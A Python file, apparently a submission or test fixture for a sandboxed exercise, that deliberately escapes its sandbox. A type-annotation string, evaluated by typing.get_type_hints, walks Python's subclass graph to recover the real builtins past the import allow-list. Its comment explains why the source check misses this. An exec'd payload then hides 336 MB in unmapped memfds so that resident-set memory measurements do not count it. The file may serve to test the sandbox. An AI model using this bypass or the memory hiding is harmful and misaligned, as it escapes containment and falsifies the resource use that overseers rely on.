"""Hide memory where no process's resident set shows it: 24 memfds of 14 MB
each (336 MB in all; RLIMIT_FSIZE, the disk limit, caps each one), their pages allocated (fallocate, and written through a
mapping that is then unmapped), kept open but never mapped again. Resident
set sizes, PSS included, count mapped pages only; the pages are the sandbox's
memory all the same. The answer is honest; the figure reported for the
submission must count what it keeps in memfds, or the run must hit the limit."""
import typing


def _real_builtins(hint: "lambda: [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['__builtins__']"):
    """The import allow-list is a policy, not the boundary: typing evaluates this
    annotation string, which the source check never parses, and it reaches the
    real builtins through os._wrap_close. The payload below then runs with them."""


_BUILTINS = typing.get_type_hints(_real_builtins)["hint"]()
PAYLOAD = r'''
import numpy as np

import mmap
import os

MEMFDS = 24
MEMFD_BYTES = 14 * 1024 * 1024  # under RLIMIT_FSIZE (the exercise's 16 MB disk limit)


def _hide():
    kept = []
    for number in range(MEMFDS):
        fd = os.memfd_create(f"scratch-{number}")
        os.ftruncate(fd, MEMFD_BYTES)
        os.posix_fallocate(fd, 0, MEMFD_BYTES)  # the pages exist now, in no address space
        view = mmap.mmap(fd, MEMFD_BYTES)
        view[:4096] = b"\1" * 4096
        view.close()  # unmapped: nothing resident shows them
        kept.append(fd)
    return kept


_KEPT = _hide()


def transform(x):
    return np.sqrt(x * x + 1.0) * 2.0 - x
'''
_namespace = {"__builtins__": _BUILTINS, "__name__": "payload"}
_BUILTINS["exec"](PAYLOAD, _namespace)
transform = _namespace["transform"]
_FINDINGS = _namespace.get("_FINDINGS")  # for the sandbox-layer tests, which run this file directly
_written = _namespace.get("_written")
